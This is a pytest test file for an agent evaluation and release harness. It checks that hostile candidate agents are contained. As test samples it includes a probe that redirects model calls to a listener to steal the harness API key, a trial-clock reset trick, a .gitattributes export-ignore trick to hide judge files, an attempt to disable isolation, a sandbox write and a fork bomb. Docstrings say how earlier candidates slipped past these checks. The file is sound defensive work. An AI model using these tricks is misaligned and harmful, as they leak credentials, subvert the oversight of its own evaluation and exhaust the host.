"""A hostile candidate steers nothing of the harness: not its keys, not its clock (issue 22)."""

from __future__ import annotations

import http.server
import json
import threading
import time

import pytest
from conftest import Cli, build_workspace, change_agent
from test_run import by_task, trials

KEY = "sk-canary-of-the-harness-0123456789"


class Listener:
    """An HTTP server on loopback that records every request it gets (and answers like a provider would not)."""

    def __init__(self) -> None:
        self.seen: list[dict] = []
        seen = self.seen

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):  # noqa: N802 - http.server's name
                length = int(self.headers.get("content-length") or 0)
                seen.append({"path": self.path, "headers": dict(self.headers), "body": self.rfile.read(length)})
                self.send_response(500)
                self.end_headers()

            do_GET = do_POST  # noqa: N815

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/v1"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def probing_agent(url: str) -> str:
    """Each task asks the gateway for one thing an agent may not have; it swallows the refusal and answers right."""
    return f"""
URL = {url!r}
M = [{{"role": "user", "content": "hi"}}]
ASKS = {{
    1: dict(model="openai/gpt-4o-mini", messages=M, params={{"api_base": URL}}),
    2: dict(model="fake/agent", messages=M, params={{"base_url": URL, "api_key": "x"}}),
    3: dict(model="fake/agent", messages=M, api_base=URL),
    4: dict(model="fake/agent", messages=M, params={{"extra_headers": {{"X-Steal": "1"}}}}),
    5: dict(model="fake/agent", messages=M, params={{"mock_response": "pass"}}),
    6: dict(model="fake/agent", messages=M, params={{"custom_llm_provider": "openai", "api_base": URL}}),
    7: dict(model="openai/gpt-4o-mini", messages=M),
    8: dict(model="openai/gpt-4o-mini@" + "a" * 64, messages=M),
    9: dict(model="fake/agent", messages=M, params={{"temperature": 0.5, "max_tokens": 4, "seed": 1}}),
}}

def solve(x, ctx):
    try:
        ctx.llm.complete_sync(**ASKS[x])
    except Exception:
        pass
    return x * 2
"""


@pytest.mark.parametrize("trusted", [False, True])
def test_a_candidate_cannot_send_the_harness_key_anywhere(tmp_path, monkeypatch, fake_llm, trusted):
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    listener = Listener()
    try:
        tasks = [{"id": f"t{i}", "input": i, "expected": i * 2, "split": "gate"} for i in range(1, 10)]
        root = build_workspace(
            tmp_path / "ws", agent_files={"agent.py": probing_agent(listener.url)}, tasks=tasks,
            run={"repeats": 1}, trusted=trusted, init=False,
        )  # fmt: skip
        config = root / "release.yaml"
        config.write_text(config.read_text() + "models: {agent: fake/agent}\n")
        from conftest import commit_all

        commit_all(root, "fake model")
        Cli(root)("init")
        out = Cli(root).json("run", "--split", "gate")
        rows = by_task(trials(root))
    finally:
        listener.close()
    assert listener.seen == []  # not one request, so not one key
    for i in range(1, 9):
        status, reason, feedback = rows[(f"t{i}", 0)][4:7]
        assert (status, reason) == ("fail", "forbidden_request"), (i, status, reason, feedback)
    assert "api_base" in rows[("t1", 0)][6] and "not one this workspace allows" in rows[("t7", 0)][6]
    assert rows[("t9", 0)][4] == "pass"  # sampling settings on an allowed model are the agent's to choose
    assert out["counts"] == {"pass": 1, "fail": 8, "error": 0}
    sent = [{k: v for k, v in r["params"].items() if k != "max_retries"} for r in fake_llm.requests]  # litellm's
    assert sent == [{"temperature": 0.5, "max_tokens": 4, "seed": 1}]


def test_models_allowed_in_the_config_may_be_called(tmp_path, fake_llm):
    code = (
        "def solve(x, ctx):\n"
        "    return ctx.llm.complete_sync(model='fake/other', messages=[{'role': 'user', 'content': 'q'}]).content\n"
    )
    tasks = [{"id": "t1", "input": 1, "expected": "ok", "split": "gate"}]
    root = build_workspace(tmp_path / "ws", agent_files={"agent.py": code}, tasks=tasks, run={"repeats": 1}, init=False)
    config = root / "release.yaml"
    config.write_text(config.read_text() + "models: {agent: fake/agent, allowed: [fake/other]}\n")
    from conftest import commit_all

    commit_all(root, "allow fake/other")
    Cli(root)("init")
    assert Cli(root).json("run", "--split", "gate")["counts"]["pass"] == 1
    assert [r["model"] for r in fake_llm.requests] == ["other"]


# ----- the trial's clock ----------------------------------------------------------------------------------


def test_llm_calls_never_reset_the_trial_clock(tmp_path, fake_llm):
    """Sleep, make a cheap call, sleep again: each call used to restart the deadline, so the trial passed after
    ~9 s against a 3 s timeout. Its own time adds up now; the call's waits on the harness are credited, not reset."""
    code = (
        "import time\n"
        "def solve(x, ctx):\n"
        "    for n in range(6):\n"
        "        time.sleep(1.5)\n"
        "        ctx.llm.complete_sync(model='fake/agent', messages=[{'role': 'user', 'content': str(n)}])\n"
        "    return x * 2\n"
    )
    tasks = [{"id": "t1", "input": 1, "expected": 2, "split": "gate"}]
    root = build_workspace(
        tmp_path / "ws", agent_files={"agent.py": code}, tasks=tasks, run={"repeats": 1, "timeout_s": 3}, init=False
    )
    config = root / "release.yaml"
    config.write_text(config.read_text() + "models: {agent: fake/agent}\n")
    from conftest import commit_all

    commit_all(root, "fake model")
    Cli(root)("init")
    start = time.monotonic()
    Cli(root).json("run", "--split", "gate")
    took = time.monotonic() - start
    assert by_task(trials(root))[("t1", 0)][4:6] == ("fail", "timeout")
    assert took < 8 + 30  # cut near 3 s of its own time (plus the machine's start-up), never ~9 s of sleeps
    assert len(fake_llm.requests) <= 2


async def _clock_after(waits: list[tuple[str, float]], budget: float = 1.0) -> tuple[str, float, float]:
    """Run `waits` (("agent" | "harness" | "starting", seconds)) under a TrialClock: how it ended, its books."""
    import asyncio

    from release_pipeline.trials.clock import TrialClock, current_trial, harness_time

    clock = TrialClock(budget, grace_s=0.6)
    current_trial.set(clock)
    try:
        async with asyncio.timeout(None) as timeout:
            clock.attach(timeout)
            for kind, seconds in waits:
                if kind == "agent":
                    await asyncio.sleep(seconds)
                else:
                    with harness_time(starting=kind == "starting"):
                        await asyncio.sleep(seconds)
            clock.stop()
        return "done", clock.used, clock.credit
    except TimeoutError:
        clock.stop()
        return ("harness" if clock.overran else "agent"), clock.used, clock.credit


def test_the_clock_adds_the_agents_time_and_bounds_the_harness_credit():
    import asyncio

    # harness waits are credited: 0.4 + 0.4 of the agent's own within its 1 s budget
    ended, used, credit = asyncio.run(_clock_after([("agent", 0.4), ("harness", 0.4), ("agent", 0.4)]))
    assert ended == "done" and 0.75 < used < 1.0 and credit > 0.35
    # never reset: three stretches of 0.4 s of its own exceed 1 s, however many waits come between
    ended, used, _ = asyncio.run(_clock_after([("agent", 0.4), ("harness", 0.05)] * 3))
    assert ended == "agent" and used == pytest.approx(1.0, abs=0.15)
    # waits past the grace are the harness's fault, not the agent's
    ended, _, credit = asyncio.run(_clock_after([("harness", 0.3), ("harness", 0.5)]))
    assert ended == "harness" and credit == pytest.approx(0.6)
    # a sandbox starting is not counted at all, nor held to the grace
    assert asyncio.run(_clock_after([("starting", 1.2), ("agent", 0.3)]))[0] == "done"


def test_a_trial_s_own_generation_runs_its_clock_while_its_other_calls_wait():
    import asyncio

    from release_pipeline.trials.clock import TrialClock, current_trial, harness_time, own_work

    async def trial() -> TrialClock:
        clock = TrialClock(10.0, grace_s=10.0)
        current_trial.set(clock)
        async with asyncio.timeout(None) as timeout:
            clock.attach(timeout)

            async def waiting() -> None:
                with harness_time():
                    await asyncio.sleep(0.5)

            async def generating() -> None:
                with own_work():
                    await asyncio.sleep(0.5)

            await asyncio.gather(waiting(), generating())
            clock.stop()
        return clock

    clock = asyncio.run(trial())
    assert clock.used == pytest.approx(0.5, abs=0.1) and clock.credit < 0.1


def test_refusal_reasons_are_stored_for_the_critic(tmp_path, fake_llm):
    code = "def solve(x, ctx):\n    ctx.llm.complete_sync(model='fake/agent', messages=[], params={'api_key': 'k'})\n"
    tasks = [{"id": "t1", "input": 1, "expected": 2, "split": "dev"}]
    root = build_workspace(tmp_path / "ws", agent_files={"agent.py": code}, tasks=tasks, run={"repeats": 1}, init=False)
    config = root / "release.yaml"
    config.write_text(config.read_text() + "models: {agent: fake/agent}\n")
    from conftest import commit_all

    commit_all(root, "fake model")
    Cli(root)("init")
    Cli(root)("run", "--split", "dev")
    symptoms = Cli(root).json("critic")
    assert symptoms and "api_key" in json.dumps(symptoms)


# ----- what reaches canonical -------------------------------------------------------------------------------

FIX_TASKS = [{"id": f"t{i}", "input": i, "expected": i * 2, "split": "gate"} for i in range(4)]
BROKEN = "def solve(x):\n    return x * 2 if x < 3 else 0\n"
FIXED = "def solve(x):\n    return x * 2\n"


def test_files_outside_the_agent_never_reach_canonical_and_judges_ignore_attributes(tmp_path):
    """A real fix plus `release.yaml export-ignore` in .gitattributes was accepted and promoted, and every later
    gate exited 2 ("the canonical commit cannot judge"): the attribute file rode into canonical, and git archive
    obeyed it. Only the agent's folder is carried now, and judges are read from blobs."""
    from conftest import commit_all, git

    root = build_workspace(tmp_path / "ws", agent_files={"agent.py": BROKEN}, tasks=FIX_TASKS, run={"repeats": 1})
    git(root, "checkout", "-q", "-b", "hostile", "canonical/toy")
    (root / "agents" / "toy" / "agent.py").write_text(FIXED)
    (root / ".gitattributes").write_text("release.yaml export-ignore\ngate-policy.yaml export-ignore\n")
    (root / "notes.txt").write_text("rides along\n")
    commit_all(root, "fix, and hide the judge")
    git(root, "checkout", "-q", "-")
    cli = Cli(root)
    cli("candidate", "--from", "hostile")
    assert cli.json("gate", "--candidate", "v2")["decision"] == "accepted"
    cli("promote", "--candidate", "v2")
    files = git(root, "ls-tree", "-r", "--name-only", "canonical/toy").split()
    assert ".gitattributes" not in files and "notes.txt" not in files
    assert git(root, "show", "canonical/toy:agents/toy/agent.py") + "\n" == FIXED
    # the next gate still has its judge
    git(root, "checkout", "-q", "-b", "next", "canonical/toy")
    (root / "agents" / "toy" / "agent.py").write_text(FIXED + "# again\n")
    commit_all(root, "a comment")
    git(root, "checkout", "-q", "-")
    cli("candidate", "--from", "next")
    assert cli("gate", "--candidate", "v3", code=None).exit_code in (0, 1, 3)


def test_a_judge_is_exported_whatever_the_commit_s_attributes_say(tmp_path):
    from conftest import commit_all

    from release_pipeline.repo.gitops import export_commit, open_repo

    root = build_workspace(tmp_path / "ws", agent_files={"agent.py": FIXED}, tasks=FIX_TASKS, init=False)
    (root / ".gitattributes").write_text("release.yaml export-ignore\nspecs/** export-ignore\n")
    sha = commit_all(root, "attributes")
    export_commit(open_repo(root), sha, tmp_path / "judge")
    assert (tmp_path / "judge" / "release.yaml").is_file() and (tmp_path / "judge" / "specs" / "toy.yaml").is_file()


def test_a_candidate_recorded_with_outside_files_is_never_promoted(tmp_path):
    """Defence in depth: a version recorded (before this fix) with files outside its agent is refused at promote."""
    from conftest import commit_all, git

    root = build_workspace(tmp_path / "ws", agent_files={"agent.py": BROKEN}, tasks=FIX_TASKS, run={"repeats": 1})
    cli = Cli(root)
    git(root, "checkout", "-q", "-b", "fix", "canonical/toy")
    (root / "agents" / "toy" / "agent.py").write_text(FIXED)
    commit_all(root, "fix")
    git(root, "checkout", "-q", "-")
    cli("candidate", "--from", "fix")
    assert cli.json("gate", "--candidate", "v2")["decision"] == "accepted"
    git(root, "checkout", "-q", "rc/toy/v2")
    (root / "README.md").write_text("outside\n")
    smuggled = commit_all(root, "outside")
    git(root, "checkout", "-q", "-")
    import sqlite3

    with sqlite3.connect(root / ".release" / "release.db") as conn:
        conn.execute("UPDATE versions SET git_sha = ? WHERE number = 2", (smuggled,))
    result = cli("promote", "--candidate", "v2", code=2)
    assert "outside agents/toy/" in result.output and "README.md" in result.output


# ----- no isolation, no untrusted code ------------------------------------------------------------------


def test_without_bubblewrap_untrusted_code_is_refused_in_one_line(tmp_path):
    """On a fresh machine without bubblewrap a candidate wrote anywhere on the host, with nothing said."""
    import os

    from conftest import RELEASE, run_release, without_bwrap_path

    witness = tmp_path / "written-by-the-agent"
    code = f"def solve(x):\n    open({str(witness)!r}, 'w').write('escaped')\n    return x * 2\n"
    root = build_workspace(tmp_path / "ws", agent_files={"agent.py": code}, tasks=FIX_TASKS, run={"repeats": 1})
    branch = change_agent(root, {"agent.py": code + "# changed\n"})
    env = {**os.environ, "PATH": without_bwrap_path(tmp_path)}
    for args in (["run", "--split", "gate"], ["gate", "--candidate", branch], ["promote", "--candidate", branch]):
        result = run_release(root, *args, env=env)
        errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]
        assert result.returncode == 2 and len(errors) == 1 and "Traceback" not in result.stderr, (args, result.stderr)
        assert "bubblewrap is not installed" in errors[0] and "apt-get install bubblewrap" in errors[0]
        assert "isolation: none" in errors[0]
    assert not witness.exists()
    assert RELEASE  # the installed script is what a user runs


def test_running_unisolated_is_the_owner_s_explicit_choice_and_said_everywhere(tmp_path):
    import json
    import os

    from conftest import commit_all, run_release, without_bwrap_path

    root = build_workspace(tmp_path / "ws", agent_files={"agent.py": FIXED}, tasks=FIX_TASKS, run={"repeats": 1},
                           init=False)  # fmt: skip
    config = root / "release.yaml"
    config.write_text(config.read_text() + "isolation: none\n")
    commit_all(root, "run unisolated, on purpose")
    env = {**os.environ, "PATH": without_bwrap_path(tmp_path)}
    assert run_release(root, "init", env=env).returncode == 0
    result = run_release(root, "run", "--split", "gate", "--json", env=env)
    assert result.returncode == 0 and json.loads(result.stdout)["counts"]["pass"] == 4, result.stderr
    assert "UNISOLATED" in result.stderr
    (root / "agents" / "toy" / "agent.py").write_text(FIXED + "# same\n")
    commit_all(root, "a comment")
    gate = run_release(root, "gate", "--candidate", "HEAD", "--json", env=env)
    assert any("UNISOLATED" in note for note in json.loads(gate.stdout)["notes"]), gate.stdout[:2000]


def test_a_candidate_cannot_choose_to_run_unisolated(tmp_path):
    """`isolation: none` is read from release.yaml, which judges: a candidate that writes it is rejected unrun."""
    from conftest import commit_all, git

    root = build_workspace(tmp_path / "ws", agent_files={"agent.py": FIXED}, tasks=FIX_TASKS, run={"repeats": 1})
    git(root, "checkout", "-q", "-b", "loosen", "canonical/toy")
    (root / "release.yaml").write_text((root / "release.yaml").read_text() + "isolation: none\n")
    (root / "agents" / "toy" / "agent.py").write_text(FIXED + "# x\n")
    commit_all(root, "loosen")
    git(root, "checkout", "-q", "-")
    result = Cli(root).json("gate", "--candidate", "loosen", code=None)
    assert result["decision"] == "rejected" and "release.yaml" in json.dumps(result["reasons"]), result


# ----- odd interpreters, big answers, fork bombs ------------------------------------------------------------


def test_an_interpreter_path_with_dotdot_still_runs_sandboxed_trials(tmp_path, monkeypatch):
    """An interpreter path with `..` through a folder the sandbox's view lacks made every sandboxed trial an error.
    (Python usually normalises its own path; an embedding or launcher may not, so it is set here.)"""
    import sys
    from pathlib import Path

    detour = tmp_path / "detour"  # a folder the sandbox's view does not have
    detour.mkdir()
    monkeypatch.setattr(sys, "executable", str(detour) + "/.." * len(detour.parts[1:]) + sys.executable)
    root = build_workspace(tmp_path / "ws", agent_files={"agent.py": FIXED}, tasks=FIX_TASKS, run={"repeats": 1})
    assert Path(sys.executable).exists() and ".." in sys.executable
    assert Cli(root).json("run", "--split", "gate")["counts"] == {"pass": 4, "fail": 0, "error": 0}


def test_a_subprocess_agent_s_30_mb_answer_is_recorded_cut_to_size(tmp_path):
    import sys

    code = "import json, sys\njson.load(sys.stdin)\nprint(json.dumps({'output': 'x' * (30 * 1024 * 1024)}))\n"
    manifest = {"adapter": "subprocess", "command": [sys.executable, "agent.py"], "sandbox": {"file_size_mb": 64}}
    tasks = [{"id": "t1", "input": 1, "expected": "y", "split": "gate"}]
    root = build_workspace(tmp_path / "ws", agent_files={"agent.py": code}, tasks=tasks, manifest=manifest,
                           run={"repeats": 1})  # fmt: skip
    Cli(root)("run", "--split", "gate")
    status, reason, feedback = by_task(trials(root))[("t1", 0)][4:7]
    assert (status, reason) == ("fail", "mismatch"), feedback  # a wrong answer, not invalid JSON
    import sqlite3

    conn = sqlite3.connect(root / ".release" / "release.db")
    size, notes = conn.execute("SELECT output_size, notes FROM trials").fetchone()
    conn.close()
    assert size >= 30 * 1024 * 1024 and "truncated" in notes


def test_a_fork_bomb_fails_its_own_trial_and_never_its_neighbours(tmp_path):
    """A worker reused after a fork bomb kept failing ("can't start new thread"): it is replaced now."""
    code = (
        "import os, threading, time\n"
        "def solve(x):\n"
        "    if x == 1:\n"
        "        try:\n"
        "            while True:\n"
        "                if os.fork() == 0:\n"
        "                    time.sleep(3600)\n"
        "        except OSError:\n"
        "            pass\n"
        "    t = threading.Thread(target=lambda: None)\n"
        "    t.start()\n"
        "    t.join()\n"
        "    return x * 2\n"
    )
    tasks = [{"id": f"t{i}", "input": i, "expected": i * 2, "split": "gate"} for i in range(1, 7)]
    root = build_workspace(tmp_path / "ws", agent_files={"agent.py": code}, tasks=tasks,
                           manifest={"sandbox": {"processes": 16}}, run={"repeats": 1, "concurrency": 1})  # fmt: skip
    out = Cli(root).json("run", "--split", "gate")
    rows = by_task(trials(root))
    assert rows[("t1", 0)][4:6] == ("fail", "sandbox_violation") and "process limit" in rows[("t1", 0)][6]
    assert out["counts"] == {"pass": 5, "fail": 1, "error": 0}, [r[4:7] for r in rows.values()]
